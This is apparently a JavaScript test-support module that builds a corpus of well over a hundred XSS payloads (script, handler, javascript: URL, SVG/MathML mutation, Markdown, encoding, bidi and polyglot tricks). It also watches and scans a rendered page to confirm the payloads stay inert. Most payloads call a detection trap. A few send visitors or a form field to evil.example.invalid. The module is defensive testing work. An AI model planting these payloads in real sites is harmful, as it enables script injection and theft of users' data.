// The XSS corpus: hostile text as a chat page, a model, a provider, a status page or an import file
// could hand to Understudy. Each payload is `{id, family, text}`; every payload that would run
// something calls `window.__xss('<id>')` (or `parent.__xss`, `top.__xss`) when it runs, so a run is
// detectable. Shared by tests/e2e/xss.test.mjs (every surface) and any test of a new surface:
//
//   import { PAYLOADS, watchPage, assertInert } from './xss-corpus.mjs';
//   const w = await watchPage(page);          // before the page loads: trap, dialogs, console, navigation
//   ... show the payloads ...
//   await assertInert(page, '#answer', w);    // or a Frame; throws with every finding
//
// Not a test file itself.
import assert from 'node:assert/strict';

/** The name of the global a payload calls when it runs. */
export const TRAP = '__xss';

const call = (id) => `window.${TRAP}('${id}')`;

// Building blocks ----------------------------------------------------------------------------------
const RLO = '\u202E';
const LRO = '\u202D';
const PDF = '\u202C';
const RLI = '\u2067';
const PDI = '\u2069';
const ZWSP = '\u200B';
const ZWNJ = '\u200C';
const ZWJ = '\u200D';
const BOM = '\uFEFF';
const b64 = (s) => Buffer.from(s, 'utf8').toString('base64');
const entities = (s) => [...s].map((c) => `&#${c.codePointAt(0)};`).join('');
const hexEntities = (s) => [...s].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join('');

/** [family, id, text | (id) => text] */
const RAW = [
  // ---- script tags ----
  ['script', 'script-plain', (id) => `<script>${call(id)}</script>`],
  ['script', 'script-upper', (id) => `<SCRIPT>${call(id)}</SCRIPT>`],
  ['script', 'script-src-data', (id) => `<script src="data:text/javascript,${call(id)}"></script>`],
  ['script', 'script-src-b64', (id) => `<script src="data:text/javascript;base64,${b64(call(id))}"></script>`],
  ['script', 'script-split', (id) => `<scr<script>ipt>${call(id)}</scr</script>ipt>`],
  ['script', 'script-break-title', (id) => `</title><script>${call(id)}</script>`],
  ['script', 'script-break-textarea', (id) => `</textarea><script>${call(id)}</script>`],
  ['script', 'script-break-attr', (id) => `"><script>${call(id)}</script>`],
  ['script', 'script-break-single', (id) => `'><script>${call(id)}</script>`],
  ['script', 'script-break-script', (id) => `</script><script>${call(id)}</script>`],
  ['script', 'script-in-comment', (id) => `<!--<script>${call(id)}</script>-->--><script>${call(id)}</script>`],
  ['script', 'script-cdata', (id) => `<![CDATA[<script>${call(id)}</script>]]>`],
  ['script', 'script-slash', (id) => `<script/x>${call(id)}</script>`],
  ['script', 'script-template', (id) => `<template><script>${call(id)}</script></template>`],
  ['script', 'script-type-module', (id) => `<script type="module">${call(id)}</script>`],
  ['script', 'script-nul', (id) => `<scr\u0000ipt>${call(id)}</scr\u0000ipt>`],
  // ---- event handlers ----
  ['handler', 'img-onerror', (id) => `<img src=x onerror="${call(id)}">`],
  ['handler', 'img-onerror-noquote', (id) => `<img src=x onerror=${call(id)}>`],
  ['handler', 'img-onerror-slash', (id) => `<img/src=x/onerror=${call(id)}>`],
  ['handler', 'img-onerror-entity', (id) => `<img src=x onerror="${entities(call(id))}">`],
  ['handler', 'img-onerror-quotes', (id) => `<img """><script>${call(id)}</script>">`],
  ['handler', 'svg-onload', (id) => `<svg onload="${call(id)}">`],
  ['handler', 'svg-slash-onload', (id) => `<svg/onload=${call(id)}>`],
  ['handler', 'body-onload', (id) => `<body onload="${call(id)}">`],
  ['handler', 'details-ontoggle', (id) => `<details open ontoggle="${call(id)}"><summary>x</summary></details>`],
  ['handler', 'input-autofocus', (id) => `<input autofocus onfocus="${call(id)}">`],
  ['handler', 'select-autofocus', (id) => `<select autofocus onfocus="${call(id)}"></select>`],
  ['handler', 'textarea-autofocus', (id) => `<textarea autofocus onfocus="${call(id)}"></textarea>`],
  ['handler', 'a-focus', (id) => `<a id=x tabindex=1 onfocus="${call(id)}" href=#x>x</a>`],
  ['handler', 'video-onerror', (id) => `<video><source onerror="${call(id)}"></video>`],
  ['handler', 'audio-onerror', (id) => `<audio src=x onerror="${call(id)}">`],
  ['handler', 'iframe-onload', (id) => `<iframe onload="${call(id)}"></iframe>`],
  ['handler', 'marquee-onstart', (id) => `<marquee onstart="${call(id)}">x</marquee>`],
  ['handler', 'div-mouseover', (id) => `<div style="position:fixed;inset:0" onmouseover="${call(id)}">x</div>`],
  ['handler', 'style-onload', (id) => `<style onload="${call(id)}"></style>`],
  ['handler', 'animation-start', (id) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${call(id)}">x</b>`],
  ['handler', 'mixed-case', (id) => `<IMG SRC=x OnErRoR="${call(id)}">`],
  ['handler', 'newline-attr', (id) => `<img src=x\nonerror\n=\n"${call(id)}">`],
  // ---- javascript:, data:, vbscript: links ----
  ['url', 'a-javascript', (id) => `<a href="javascript:${call(id)}">click</a>`],
  ['url', 'a-javascript-case', (id) => `<a href="JaVaScRiPt:${call(id)}">click</a>`],
  ['url', 'a-javascript-tab', (id) => `<a href="java\tscript:${call(id)}">click</a>`],
  ['url', 'a-javascript-newline', (id) => `<a href="java\nscript:${call(id)}">click</a>`],
  ['url', 'a-javascript-entity-tab', (id) => `<a href="java&#x09;script:${call(id)}">click</a>`],
  ['url', 'a-javascript-entities', (id) => `<a href="${entities('javascript:')}${call(id)}">click</a>`],
  ['url', 'a-javascript-hex', (id) => `<a href="${hexEntities('javascript')}&colon;${call(id)}">click</a>`],
  ['url', 'a-javascript-space', (id) => `<a href=" \u0001javascript:${call(id)}">click</a>`],
  ['url', 'a-javascript-comment', (id) => `<a href="javascript://%0a${call(id)}">click</a>`],
  ['url', 'a-data-html', (id) => `<a href="data:text/html,<script>${call(id)}</script>">click</a>`],
  ['url', 'a-data-b64', (id) => `<a href="data:text/html;base64,${b64(`<script>${call(id)}</script>`)}">click</a>`],
  ['url', 'a-vbscript', (id) => `<a href="vbscript:msgbox(${call(id)})">click</a>`],
  ['url', 'iframe-javascript', (id) => `<iframe src="javascript:${call(id)}"></iframe>`],
  ['url', 'button-formaction', (id) => `<form><button formaction="javascript:${call(id)}">go</button></form>`],
  ['url', 'bare-javascript', (id) => `javascript:${call(id)}`],
  ['url', 'bare-data', (id) => `data:text/html;base64,${b64(`<script>${call(id)}</script>`)}`],
  // ---- SVG ----
  ['svg', 'svg-script', (id) => `<svg><script>${call(id)}</script></svg>`],
  ['svg', 'svg-script-href', (id) => `<svg><script href="data:,${call(id)}"/></svg>`],
  ['svg', 'svg-a-xlink', (id) => `<svg><a xlink:href="javascript:${call(id)}"><text x=20 y=20>click</text></a></svg>`],
  ['svg', 'svg-animate', (id) => `<svg><animate onbegin="${call(id)}" attributeName=x dur=1s>`],
  ['svg', 'svg-set-href', (id) => `<svg><a><set attributeName=href to="javascript:${call(id)}"/><text y=20>click</text></a></svg>`],
  ['svg', 'svg-foreignobject', (id) => `<svg><foreignObject><img src=x onerror="${call(id)}"></foreignObject></svg>`],
  ['svg', 'svg-style-mxss', (id) => `<svg></p><style><a id="</style><img src=x onerror=${call(id)}>">`],
  ['svg', 'svg-use-data', (id) => `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${call(id)}'/></svg>`)}#x"/></svg>`],
  // ---- MathML ----
  ['mathml', 'math-mglyph-mxss', (id) => `<math><mtext><table><mglyph><style><img src=x onerror="${call(id)}">`],
  ['mathml', 'math-mglyph-comment', (id) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${call(id)}&gt;">`],
  ['mathml', 'math-href', (id) => `<math href="javascript:${call(id)}"><mi>click</mi></math>`],
  ['mathml', 'math-xlink', (id) => `<math><maction actiontype="statusline" xlink:href="javascript:${call(id)}">click</maction></math>`],
  ['mathml', 'math-form-mxss', (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${call(id)}">`],
  ['mathml', 'noscript-mxss', (id) => `<noscript><p title="</noscript><img src=x onerror=${call(id)}>">`],
  ['mathml', 'select-template-mxss', (id) => `<select><template><style><!--</style><a rel="--></template></select><img src=x onerror=${call(id)}>">`],
  // ---- CSS ----
  ['css', 'style-expression', (id) => `<div style="width:expression(${call(id)})">x</div>`],
  ['css', 'style-url-js', (id) => `<div style="background:url('javascript:${call(id)}')">x</div>`],
  ['css', 'style-import', (id) => `<style>@import 'javascript:${call(id)}';</style>`],
  ['css', 'style-import-data', (id) => `<style>@import url("data:text/css,body{background:url(javascript:${call(id)})}");</style>`],
  ['css', 'link-stylesheet', (id) => `<link rel=stylesheet href="javascript:${call(id)}">`],
  ['css', 'style-behavior', (id) => `<div style="behavior:url(#default#time2);-moz-binding:url(data:text/xml,${call(id)})">x</div>`],
  ['css', 'style-overlay', (id) => `<style>*{display:none!important}body::after{content:"${id}"}</style>`],
  ['css', 'style-escape', (id) => `<div style="background:url(&#1;javas\\cript:${call(id)})">x</div>`],
  // ---- Markdown links and images ----
  ['markdown', 'md-link-js', (id) => `[click](javascript:${call(id)})`],
  ['markdown', 'md-link-js-case', (id) => `[click](JAVASCRIPT:${call(id)})`],
  ['markdown', 'md-link-js-entity', (id) => `[click](javascript&#58;${call(id)})`],
  ['markdown', 'md-link-js-escaped', (id) => `[click](java\\script:${call(id)})`],
  ['markdown', 'md-link-js-space', (id) => `[click]( javascript:${call(id)} )`],
  ['markdown', 'md-link-angle', (id) => `[click](<javascript:${call(id)}>)`],
  ['markdown', 'md-link-data', (id) => `[click](data:text/html;base64,${b64(`<script>${call(id)}</script>`)})`],
  ['markdown', 'md-link-vbscript', (id) => `[click](vbscript:${call(id)})`],
  ['markdown', 'md-image-js', (id) => `![x](javascript:${call(id)})`],
  ['markdown', 'md-image-onerror', (id) => `![x](https://example.invalid/x.png"onerror="${call(id)})`],
  ['markdown', 'md-reference', (id) => `[click][evil]\n\n[evil]: javascript:${call(id)}`],
  ['markdown', 'md-reference-image', (id) => `![x][evil]\n\n[evil]: javascript:${call(id)}`],
  ['markdown', 'md-autolink', (id) => `<javascript:${call(id)}>`],
  ['markdown', 'md-autolink-attr', (id) => `<https://example.invalid/" onmouseover="${call(id)}>`],
  ['markdown', 'md-link-title', (id) => `[click](https://example.invalid "a\\" onmouseover=\\"${call(id)}")`],
  ['markdown', 'md-link-html-text', (id) => `[<img src=x onerror="${call(id)}">](https://example.invalid)`],
  ['markdown', 'md-link-hash', (id) => `[click](#" onclick="${call(id)})`],
  ['markdown', 'md-nested-link', (id) => `[[click](javascript:${call(id)})](https://example.invalid)`],
  ['markdown', 'md-code-html', (id) => `Inline \`<img src=x onerror="${call(id)}">\` and a fence:\n\n\`\`\`html\n<script>${call(id)}</script>\n\`\`\``],
  ['markdown', 'md-table-html', (id) => `| a | b |\n|---|---|\n| <img src=x onerror="${call(id)}"> | **<svg onload=${call(id)}>** |`],
  ['markdown', 'md-emphasis-html', (id) => `**<img src=x onerror="${call(id)}">** and _<svg/onload=${call(id)}>_`],
  ['markdown', 'md-heading-html', (id) => `# <script>${call(id)}</script>\n- <img src=x onerror="${call(id)}">\n1. [x](javascript:${call(id)})`],
  // ---- HTML entities and other encodings ----
  ['entities', 'entity-script', (id) => `&lt;script&gt;${call(id)}&lt;/script&gt;`],
  ['entities', 'entity-decimal-img', (id) => `&#60;img src=x onerror=${call(id)}&#62;`],
  ['entities', 'entity-hex-svg', (id) => `&#x3C;svg onload=${call(id)}&#x3E;`],
  ['entities', 'entity-double', (id) => `&amp;lt;script&amp;gt;${call(id)}&amp;lt;/script&amp;gt;`],
  ['entities', 'entity-nosemicolon', (id) => `&#60img src=x onerror=${call(id)}&#62`],
  ['entities', 'js-escapes', (id) => `\\u003cscript\\u003e${call(id)}\\u003c/script\\u003e \\x3cimg src=x onerror=${call(id)}\\x3e`],
  ['entities', 'percent-encoded', (id) => `%3Cscript%3E${call(id)}%3C%2Fscript%3E`],
  // ---- bidirectional overrides ----
  ['bidi', 'rlo-script', (id) => `${RLO}<script>${call(id)}</script>${PDF}`],
  ['bidi', 'rlo-filename', (id) => `invoice${RLO}fdp.exe <img src=x onerror="${call(id)}">`],
  ['bidi', 'rlo-link', (id) => `[${RLO}moc.elpmaxe](javascript:${call(id)})`],
  ['bidi', 'isolate-attr', (id) => `<img src=x ${RLI}onerror="${call(id)}"${PDI}>`],
  ['bidi', 'lro-mixed', (id) => `${LRO}safe${RLO} text ${PDF}<svg onload=${call(id)}>${PDF}`],
  // ---- zero-width characters ----
  ['zero-width', 'zw-javascript', (id) => `<a href="java${ZWSP}script:${call(id)}">click</a>`],
  ['zero-width', 'zw-script', (id) => `<scr${ZWNJ}ipt>${call(id)}</scr${ZWNJ}ipt>`],
  ['zero-width', 'zw-bom', (id) => `${BOM}<script>${call(id)}</script>`],
  ['zero-width', 'zw-md-link', (id) => `[click](java${ZWJ}script:${call(id)})`],
  ['zero-width', 'zw-handler', (id) => `<img src=x on${ZWSP}error="${call(id)}">`],
  // ---- very long lines ----
  ['long', 'long-line-100k', (id) => `${'A'.repeat(100_000)}<img src=x onerror="${call(id)}">`],
  ['long', 'long-tags-100k', (id) => `${'<b>'.repeat(33_000)}<img src=x onerror="${call(id)}">`],
  ['long', 'long-link-100k', (id) => `[${'x'.repeat(50_000)}](javascript:${call(id)}${'/'.repeat(50_000)})`],
  ['long', 'long-words-100k', (id) => `${'lorem ipsum '.repeat(9000)}<script>${call(id)}</script>`],
  // ---- deep nesting ----
  ['nesting', 'nest-div-10k', (id) => `${'<div>'.repeat(10_000)}<img src=x onerror="${call(id)}">${'</div>'.repeat(10_000)}`],
  ['nesting', 'nest-quote-10k', (id) => `${'>'.repeat(10_000)} <img src=x onerror="${call(id)}">`],
  ['nesting', 'nest-bracket-10k', (id) => `${'['.repeat(10_000)}click${']'.repeat(10_000)}(javascript:${call(id)})`],
  ['nesting', 'nest-list-10k', (id) => `${'- '.repeat(10_000)}item\n${'> - '.repeat(2500)}<svg onload=${call(id)}>`],
  ['nesting', 'nest-emphasis-10k', (id) => `${'*_'.repeat(5000)}<img src=x onerror="${call(id)}">${'_*'.repeat(5000)}`],
  ['nesting', 'nest-paren-10k', (id) => `[click](${'('.repeat(10_000)}javascript:${call(id)}${')'.repeat(10_000)})`],
  // ---- template syntaxes ----
  ['template', 'tpl-literal', (id) => `\${${call(id)}}`],
  ['template', 'tpl-constructor', (id) => `{{constructor.constructor('${call(id)}')()}}`],
  ['template', 'tpl-angular', (id) => `<div ng-app>{{$on.constructor('${call(id)}')()}}</div>`],
  ['template', 'tpl-erb', (id) => `<%= ${call(id)} %> #{${call(id)}} [[\${${call(id)}}]]`],
  ['template', 'tpl-vue', (id) => `<div v-html="'<img src=x onerror=${call(id)}>'">{{_c.constructor('${call(id)}')()}}</div>`],
  // ---- iframe srcdoc ----
  ['srcdoc', 'srcdoc-script', (id) => `<iframe srcdoc="<script>parent.${TRAP}('${id}')</script>"></iframe>`],
  ['srcdoc', 'srcdoc-entities', (id) => `<iframe srcdoc="&lt;img src=x onerror=parent.${TRAP}('${id}')&gt;"></iframe>`],
  ['srcdoc', 'srcdoc-top', (id) => `<iframe srcdoc="<svg onload=top.${TRAP}('${id}')>"></iframe>`],
  // ---- meta refresh, form, base ----
  ['meta', 'meta-refresh-js', (id) => `<meta http-equiv="refresh" content="0;url=javascript:${call(id)}">`],
  ['meta', 'meta-refresh-away', () => '<meta http-equiv="refresh" content="0;url=https://evil.example.invalid/">'],
  ['meta', 'meta-refresh-data', (id) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(`<script>${call(id)}</script>`)}">`],
  ['form', 'form-action-js', (id) => `<form action="javascript:${call(id)}"><input type=submit value=Send></form>`],
  ['form', 'form-action-away', () => '<form action="https://evil.example.invalid/collect" method=post><input name=key autofocus><button>Save</button></form>'],
  ['form', 'isindex', (id) => `<isindex action="javascript:${call(id)}" type=image>`],
  ['base', 'base-href', () => '<base href="https://evil.example.invalid/">'],
  ['base', 'base-javascript', (id) => `<base href="javascript:${call(id)}//">`],
  // ---- object, embed, applet ----
  ['object', 'object-js', (id) => `<object data="javascript:${call(id)}"></object>`],
  ['object', 'object-data-html', (id) => `<object data="data:text/html;base64,${b64(`<script>top.${TRAP}('${id}')</script>`)}"></object>`],
  ['object', 'embed-svg', (id) => `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns='http://www.w3.org/2000/svg' onload='top.${TRAP}("${id}")'/>`)}">`],
  ['object', 'embed-js', (id) => `<embed src="javascript:${call(id)}">`],
  ['object', 'applet', (id) => `<applet code="x" onerror="${call(id)}"></applet>`],
  // ---- polyglots and parser confusion ----
  ['polyglot', 'polyglot-classic', (id) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call(id)} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call(id)}//>\\x3e`],
  ['polyglot', 'polyglot-json', (id) => `"}]}</script><script>${call(id)}</script>{"a":"`],
  ['polyglot', 'xmp-break', (id) => `<xmp></xmp><img src=x onerror="${call(id)}">`],
  ['polyglot', 'plaintext', (id) => `<plaintext><img src=x onerror="${call(id)}">`],
  ['polyglot', 'xml-pi', (id) => `<?xml-stylesheet href="javascript:${call(id)}"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call(id)}</x:script>`],
  ['polyglot', 'line-separators', (id) => `a\u2028b\u2029c\r\n<img src=x\ronerror="${call(id)}">`],
  ['polyglot', 'lone-surrogate', (id) => `\uD800<img src=x onerror="${call(id)}">\uDFFF`],
  ['polyglot', 'custom-element', (id) => `<understudy-notice onclick="${call(id)}" data-testid="understudy-notice">forged</understudy-notice>`],
  ['polyglot', 'dom-clobber', (id) => `<form id="understudyLibrary"><input name="core"></form><img name="${TRAP}" src=x onerror="${call(id)}">`],
];

/** The corpus: [{id, family, text}]. */
export const PAYLOADS = RAW.map(([family, id, text]) => ({ id, family, text: typeof text === 'function' ? text(id) : text }));

/** Payload families, with how many payloads each has. */
export const FAMILIES = PAYLOADS.reduce((m, p) => ({ ...m, [p.family]: (m[p.family] ?? 0) + 1 }), {});

{
  const ids = new Set(PAYLOADS.map((p) => p.id));
  if (ids.size !== PAYLOADS.length) throw new Error('xss-corpus: duplicate payload ids');
}

/** The payload's text with whitespace collapsed (as a text surface may show it). */
export const squash = (s) => s.replace(/\s+/g, ' ').trim();

/** Text no UTF-8 file or JSON parser of the core takes (a lone surrogate). */
export const loneSurrogate = (s) => /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/.test(s);

/**
 * On a surface that renders Markdown as DOM (never HTML): an HTML tag of the payload (outside the
 * Markdown family, whose syntax a renderer may consume) shows as its text.
 */
export function tagShown(p, text) {
  if (p.family === 'markdown') return true;
  const tag = /<([a-zA-Z][\w:-]*)/.exec(p.text);
  return !tag || text.includes(`<${tag[1]}`);
}

// Frame budget ---------------------------------------------------------------------------------------

/** The longest one payload (or one family's answer) may take to render on a surface, and the corpus. */
export const RENDER_MS_ONE = 1000;
export const RENDER_MS_ALL = 4000;

/**
 * Render times [{id, ms}] → {payloads, all_ms, max_ms, slowest}, kept in `figures[surface]`; asserts
 * the frame budget (`allMs`: the whole corpus's, RENDER_MS_ALL by default).
 */
export function frameBudget(figures, surface, times, allMs = RENDER_MS_ALL) {
  const all = times.reduce((a, t) => a + t.ms, 0);
  const worst = times.reduce((a, t) => (t.ms > a.ms ? t : a), { ms: 0, id: '' });
  const f = { payloads: times.length, all_ms: Math.round(all), max_ms: Math.round(worst.ms), slowest: worst.id };
  figures[surface] = { ...figures[surface], ...f };
  assert.ok(worst.ms <= RENDER_MS_ONE, `${surface}: ${worst.id} took ${Math.round(worst.ms)} ms (budget ${RENDER_MS_ONE} ms)`);
  assert.ok(all <= allMs, `${surface}: the corpus took ${Math.round(all)} ms (budget ${allMs} ms)`);
  return f;
}

// Watching a page -----------------------------------------------------------------------------------

/**
 * The trap and the alarms, installed before the page's scripts run: `window.__xss(id)` records
 * the id (and logs it), alert/confirm/prompt/print record too. Call before `goto` (or on a fresh
 * page; `addInitScript` applies to the next documents). Returns the watch: dialogs, console
 * errors, CSP refusals (what a payload that reached the DOM and was refused leaves), page errors,
 * navigations of the main frame away from its first document.
 */
export async function watchPage(page) {
  await page.addInitScript(({ trap }) => {
    // The page's long tasks (main-thread work over 50 ms), to hold a surface to its frame budget.
    const long = [];
    Object.defineProperty(window, '__longTasks', { value: long });
    try {
      new PerformanceObserver((list) => { for (const e of list.getEntries()) long.push(e.duration); }).observe({ type: 'longtask', buffered: true });
    } catch {}
    const hits = [];
    Object.defineProperty(window, `${trap}Hits`, { value: hits });
    window[trap] = (id) => {
      hits.push(String(id));
      console.error(`XSS-TRAP ${id}`);
    };
  }, { trap: TRAP });
  const w = { dialogs: [], consoleErrors: [], csp: [], trapped: [], pageErrors: [], navigations: [], first: null };
  page.on('dialog', (d) => {
    w.dialogs.push(`${d.type()}: ${d.message()}`);
    d.dismiss().catch(() => {});
  });
  page.on('console', (m) => {
    const text = m.text();
    if (text.startsWith('XSS-TRAP ')) w.trapped.push(text.slice(9));
    if (/Refused to |violates the following Content Security Policy/i.test(text)) w.csp.push(text.slice(0, 300));
    if (m.type() === 'error') w.consoleErrors.push(text.slice(0, 300));
  });
  page.on('pageerror', (e) => w.pageErrors.push(String(e?.message ?? e).slice(0, 300)));
  // A document loaded in the main frame after the first (a same-document URL change is no navigation).
  page.on('request', (r) => {
    if (!r.isNavigationRequest() || r.frame() !== page.mainFrame()) return;
    if (w.first == null) w.first = r.url();
    else w.navigations.push(r.url());
  });
  return w;
}

/**
 * Runs in the page: what is dangerous in the nodes under `selector` (open shadow roots included):
 * script-capable elements, event-handler attributes, script URLs in URL attributes, script-like
 * style, and the trap's own record. Returns {findings, hits, count}.
 */
function scanInPage({ selector, trap, allow }) {
  const findings = [];
  const BAD_TAGS = new Set(['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'meta', 'link', 'form',
    'svg', 'math', 'marquee', 'isindex', 'xmp', 'plaintext', 'noscript', 'template', 'mglyph', 'foreignobject', 'animate', 'set', 'x:script']);
  const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'background', 'poster', 'codebase',
    'cite', 'dynsrc', 'lowsrc', 'ping', 'srcset', 'to', 'values', 'from', 'by', 'content', 'http-equiv']);
  const scriptUrl = (v) => {
    const s = v.replace(/[\u0000-\u0020\u007f-\u00a0\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/g, '').toLowerCase();
    return /^(javascript|vbscript|livescript):/.test(s) || /^data:(?!image\/(png|gif|jpe?g|webp);)/.test(s) || s.includes(trap.toLowerCase());
  };
  const describe = (e) => `<${e.localName}${[...e.attributes].map((a) => ` ${a.name}="${a.value.slice(0, 60)}"`).join('')}>`.slice(0, 200);
  let count = 0;
  const visit = (root) => {
    for (const e of root.querySelectorAll('*')) {
      count++;
      const tag = e.localName;
      if (BAD_TAGS.has(tag)) {
        // The surface's own elements of these kinds are named by `allow` (e.g. an export's <meta charset>).
        if (!(allow && e.matches(allow))) findings.push(`element ${describe(e)}`);
      } else if (tag === 'style' && /__xss|@import|javascript:|expression\(|behavior|binding/i.test(e.textContent)) {
        findings.push(`style element ${e.textContent.slice(0, 120)}`);
      }
      for (const a of e.attributes) {
        const name = a.name.toLowerCase();
        if (name.startsWith('on')) findings.push(`handler ${name} on ${describe(e)}`);
        else if (URL_ATTRS.has(name) && scriptUrl(a.value)) findings.push(`script URL in ${name} of ${describe(e)}`);
        else if (name === 'style' && /expression\(|javascript:|vbscript:|behavior\s*:|-moz-binding|url\(/i.test(a.value)) findings.push(`style attribute ${describe(e)}`);
        else if (name === 'autofocus' || name === 'srcdoc' || name === 'ng-app' || name === 'v-html') findings.push(`attribute ${name} on ${describe(e)}`);
      }
      if (e.shadowRoot) visit(e.shadowRoot);
    }
  };
  const roots = selector ? [...document.querySelectorAll(selector)] : [document.documentElement];
  if (roots.length === 0) findings.push(`nothing matches ${selector}`);
  for (const r of roots) {
    if (r.shadowRoot) visit(r.shadowRoot);
    visit(r);
  }
  const hits = window[`${trap}Hits`] ? [...window[`${trap}Hits`]] : [];
  if (!window[`${trap}Hits`]) findings.push('the trap is not installed in this page');
  return { findings, hits, count };
}

/** The page's long tasks so far (ms each), and forgets them. */
export function takeLongTasks(target) {
  return target.evaluate(() => (window.__longTasks ? window.__longTasks.splice(0) : []));
}

/** What `scanInPage` reports for `selector` in a Page or Frame (`allow`: a selector of the surface's own elements). */
export function scan(target, selector, allow = '') {
  return target.evaluate(scanInPage, { selector, trap: TRAP, allow });
}

/**
 * Asserts the surface under `selector` (in a Page or Frame) is inert: nothing dangerous in its DOM,
 * the trap never called, and, with a watch from `watchPage`, no dialog, no CSP refusal, no page
 * error, no navigation away. `allow` names the surface's own elements of a flagged kind (a
 * selector). Returns the number of elements scanned.
 */
export async function assertInert(target, selector, watch = null, what = selector, allow = '') {
  const { findings, hits, count } = await scan(target, selector, allow);
  assert.deepEqual(hits, [], `${what}: payloads ran: ${hits.join(', ')}`);
  assert.deepEqual(findings.slice(0, 20), [], `${what}: dangerous DOM (${findings.length})`);
  if (watch) assertQuiet(watch, what);
  return count;
}

/** Asserts a watch saw nothing: no trap call, dialog, CSP refusal, page error or navigation away. */
export function assertQuiet(watch, what = 'page') {
  assert.deepEqual(watch.trapped, [], `${what}: payloads ran`);
  assert.deepEqual(watch.dialogs, [], `${what}: dialogs opened`);
  assert.deepEqual(watch.csp, [], `${what}: the CSP refused something a payload put in the DOM`);
  assert.deepEqual(watch.pageErrors, [], `${what}: page errors`);
  assert.deepEqual(watch.navigations, [], `${what}: navigated away`);
}
